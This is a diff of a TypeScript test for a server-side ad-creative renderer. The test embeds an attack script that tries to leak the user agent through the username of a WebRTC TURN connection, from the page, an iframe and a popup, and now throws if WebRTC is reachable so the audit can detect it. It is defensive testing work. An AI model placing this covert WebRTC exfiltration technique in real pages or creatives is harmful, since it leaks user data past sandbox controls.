@@ -239,17 +239,25 @@ describe.skipIf(!chromiumPath)('the server-side renderer (Chromium found)', () =
     await new Promise<void>((resolve) => turnTcp.listen(0, '127.0.0.1', resolve))
     const udpPort = turnUdp.address().port
     const tcpPort = (turnTcp.address() as AddressInfo).port
-    // The review's attack: the creative's data in the TURN username, from the page and from a
-    // frame it made itself (about:blank, before any script of ours could run in it, or so it hopes).
+    // The review's attack: the creative's data in the TURN username, from the page, from a frame
+    // and from a popup it made itself (about:blank, before any script of ours ran in them, or so
+    // it hopes; the preview's opaque origin may keep it out of them anyway). What it found is
+    // thrown, for the audit to see.
     const attack = `
       const loop = [127, 0, 0, 1].join('.');
       const iceServers = [{ urls: ['turn:' + loop + ':${udpPort}?transport=udp', 'stun:' + loop + ':${udpPort}',
         'turn:' + loop + ':${tcpPort}?transport=tcp'], username: 'exfiltrated-' + navigator.userAgent, credential: 'x' }];
       const frame = document.createElement('iframe'); document.body.appendChild(frame);
-      for (const scope of [window, frame.contentWindow])
+      const found = [];
+      const reach = (get) => { try { return get() } catch {} };
+      for (const scope of [window, frame.contentWindow, window.open('about:blank')])
         for (const name of ['RTCPeerConnection', 'webkitRTCPeerConnection'])
-          try { const pc = new scope[name]({ iceServers }); pc.createDataChannel('x');
-            pc.createOffer().then((offer) => pc.setLocalDescription(offer)) } catch {}`
+          if (reach(() => scope[name])) {
+            found.push(name);
+            const pc = new scope[name]({ iceServers }); pc.createDataChannel('x');
+            pc.createOffer().then((offer) => pc.setLocalDescription(offer));
+          }
+      if (found.length) throw new Error('WebRTC reachable: ' + found.join(', '))`
     const uuid = await created('webrtc.zip', creative(attack))
     const auditBrowser = createRendererBrowser(chromiumPath!)
     try {
